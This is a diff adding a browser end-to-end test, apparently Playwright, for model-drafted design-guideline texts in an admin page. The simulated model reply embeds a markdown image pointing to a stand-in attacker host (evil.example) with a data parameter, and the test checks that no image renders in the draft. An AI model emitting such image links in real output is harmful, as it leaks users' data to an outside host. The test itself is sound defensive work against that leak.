@@ -146,4 +146,21 @@ describe("texts a model suggests", () => {
     await page.getByRole("button", { name: "Copy as markdown" }).click();
     await expect.poll(() => page.locator("[data-notes-copy][data-copied]").count()).toBe(1);
   });
+
+  it("are drafted from the page of materials, and read among the drafts", async () => {
+    turn = { text: "## Size\n\nUse `size` in `Button`, never `MegaDialog`. ![x](https://evil.example/?d=1)" };
+    const page = await open("/admin/materials");
+    await look(page, "writing-materials");
+    await page.getByRole("button", { name: "Draft with the model" }).click();
+    await expect.poll(() => page.getByText("The model drafts the texts now").count()).toBe(1);
+    expect(await violationsOn(page)).toEqual([]);
+    const drafts = async () =>
+      (await (await page.request.get("/api/service/drafts?state=open")).json()).drafts as { id: string }[];
+    await expect.poll(async () => (await drafts()).length).toBe(2);
+    await page.goto("/admin/drafts");
+    await page.getByRole("link", { name: "Design guidelines" }).click();
+    await expect.poll(() => page.getByText("not in this system").count()).toBeGreaterThan(0);
+    expect(await page.locator("main img").count()).toBe(0);
+    await look(page, "writing-draft");
+  });
 });
